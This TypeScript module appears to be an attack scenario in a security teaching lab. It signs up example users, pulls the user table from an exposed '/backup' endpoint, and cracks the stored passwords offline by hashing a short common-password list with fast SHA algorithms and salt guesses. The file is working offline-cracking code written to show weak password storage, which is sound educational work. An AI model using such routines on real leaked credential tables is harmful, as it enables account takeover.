import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';

/** What people choose when twelve characters are the least; real lists have billions. */
const list = ['123456789012', 'password1234', 'qwertyuiop12', 'iloveyou2025', 'correcthorse', 'letmein12345'];

const people = [
  { email: 'ada@people.example', password: 'password1234' },
  { email: 'grace@people.example', password: 'correcthorse' },
  { email: 'alan@people.example', password: 'password1234' },
];

const hashes = ['SHA-1', 'SHA-256', 'SHA-384', 'SHA-512'];

/** Every fast way to hash a guess that leads to a stored text, with any of its parts as the salt. */
async function isMadeBy(guess: string, stored: string): Promise<boolean> {
  const parts = stored.split(/[$:.]/);
  const texts = [guess, ...parts.flatMap((salt) => [salt + guess, guess + salt])];
  for (const text of texts) {
    for (const name of hashes) {
      const digest = new Uint8Array(await crypto.subtle.digest(name, new TextEncoder().encode(text)));
      const hex = Array.from(digest, (byte) => byte.toString(16).padStart(2, '0')).join('');
      const base64 = btoa(String.fromCharCode(...digest));
      if (parts.some((part) => [text, hex, base64].includes(part))) return true;
    }
  }
  return false;
}

/** Three people sign up; then a thief has the table, and guesses without sending any request. */
const attack: Attack = async function* (send) {
  let requests = 0;
  const found: string[] = [];
  const progress = (step: string): AttackProgress => {
    const stolen = found.join(' · ');
    return { requests, stolen, length: stolen.length, step };
  };

  for (const person of people) {
    await send({
      method: 'POST',
      path: '/api/users',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(person),
    });
    requests += 1;
    yield progress('People sign up');
  }
  const { body } = await send({ method: 'GET', path: '/backup' });
  requests += 1;
  const table = JSON.parse(body) as readonly { email: string; password_hash: string }[];
  let guesses = 0;
  for (const { email, password_hash: stored } of table) {
    for (const guess of list) {
      guesses += 1;
      if (await isMadeBy(guess, stored)) found.push(`${email}: ${guess}`);
    }
    yield progress(`Guessing at home the password of ${email}`);
  }
  return found.length > 0
    ? {
        ...progress(`${guesses} guesses at home found ${found.length} of ${table.length} passwords`),
        outcome: 'succeeded',
      }
    : { ...progress('None of the fast hashes leads to what is in the table'), outcome: 'repelled' };
};

export default attack;
